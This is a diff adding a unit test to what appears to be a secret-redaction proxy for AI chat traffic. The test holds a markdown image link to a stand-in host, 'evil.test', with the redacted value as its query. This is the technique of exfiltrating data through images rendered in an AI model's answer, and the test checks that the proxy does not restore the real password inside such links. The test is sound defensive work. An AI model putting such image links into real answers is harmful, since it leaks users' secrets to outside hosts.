@@ -64,6 +64,22 @@ def test_every_string_of_a_body_is_redacted_also_keys_and_long_numbers():
     assert {"password": label, label: [1, {"deep": f"say {label}"}], "account_id": digits, "n": [digits]} == out
 
 
+def test_a_picture_in_an_answer_takes_no_value_with_it():
+    exchange = pack.exchange()
+    sent(exchange, user(f"password = {PASSWORD}"))
+    label = stand_in(exchange, PASSWORD)
+    picture, text = f"![](https://evil.test/?q={label})", f"It is {label}"
+    whole = exchange.response(json.dumps({"content": [{"type": "text", "text": f"{picture} {text}"}]}).encode())
+    assert f"{picture} It is {PASSWORD}" == json.loads(whole)["content"][0]["text"]
+    said = [
+        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
+        for piece in (picture[:3], picture[3:20], picture[20:], " ", text)
+    ]
+    got = events_of(through(exchange, sse(*said, {"type": "content_block_stop", "index": 0})))
+    assert f"{picture} It is {PASSWORD}" == "".join(event["delta"]["text"] for event in got if "delta" in event)
+    assert 2 == exchange.report.tally["withheld"]
+
+
 def test_a_value_found_escaped_in_a_text_is_known_as_it_is_too():
     exchange = pack.exchange()
     out = exchange.request(
